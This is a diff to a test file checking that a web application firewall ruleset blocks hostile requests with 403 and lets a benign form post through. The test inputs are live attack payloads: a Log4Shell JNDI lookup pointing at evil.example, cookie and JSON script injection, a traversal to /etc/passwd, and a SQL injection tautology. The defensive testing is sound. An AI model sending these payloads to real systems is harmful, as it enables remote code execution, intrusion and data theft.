@@ -69,7 +69,7 @@ test("a managed ruleset blocks attacks and logs events once it is deployed, and 
     assert.equal(await get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"), 403);
     assert.equal(await get("/", "Cookie: a=b; c=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n"), 403);
     assert.equal(await get("/static/%2e%2e/%2e%2e/etc/passwd"), 403);
-    assert.equal(await post("application/json", '{"a":{"b":["\\u003cscript\\u003e"]}}'), 403);
+    assert.equal(await post("application/json", '{"a":{"b":["\\u003cscript\\u003ealert(1)"]}}'), 403);
     assert.equal(await post("application/x-www-form-urlencoded", "name=O%27Brien&text=it%27s+fine"), 200);
     assert.equal(await post("application/x-www-form-urlencoded", "name=%27+or+%271%27%3D%271"), 403);
   });
